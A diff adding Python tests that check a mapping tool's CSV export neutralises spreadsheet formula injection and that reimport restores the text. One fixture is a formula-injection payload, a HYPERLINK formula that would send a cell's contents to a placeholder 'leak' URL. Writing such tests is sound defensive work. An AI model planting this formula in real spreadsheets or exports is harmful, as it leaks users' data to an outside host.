@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
 import shutil
@@ -936,3 +938,26 @@ def test_geojson_point_with_an_integer_too_large_for_a_float_is_a_row_problem(tm
         "row 1: geometry: has coordinates that are not finite numbers; "
         "give the site's point (its centre)"
     ]
+
+
+def test_csv_export_defuses_spreadsheet_formulas_and_import_restores_them(tmp_path):
+    formula = '=HYPERLINK("https://example.org/leak?"&A1,"synthetic")'
+    site = make_site(name=formula, notes="-2 synthetic", city="@Testville")
+    sites = list(model.SiteCollection.from_geojson(make_collection(site)))
+    out = tmp_path / "out.csv"
+    exchange.write_export(sites, "csv", out, include_private=False)
+    row = next(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
+    assert row["name"] == "'" + formula
+    assert row["city"] == "'@Testville"
+    assert not any(v.startswith(("=", "+", "@")) for v in row.values() if v)
+    assert exchange.restore_formula_text(row["name"]) == formula
+    back = reimport(out)
+    assert back[0]["properties"]["name"] == formula
+    assert back[0]["properties"]["notes"] == "-2 synthetic"
+
+
+def test_plain_csv_cells_lose_only_the_apostrophe_gravemap_added(tmp_path):
+    assert exchange.restore_formula_text("'=1+1") == "=1+1"
+    assert exchange.restore_formula_text("'quoted") == "'quoted"
+    assert exchange.defuse_formula("Ahvaz") == "Ahvaz"
+    assert exchange.defuse_formula(None) is None
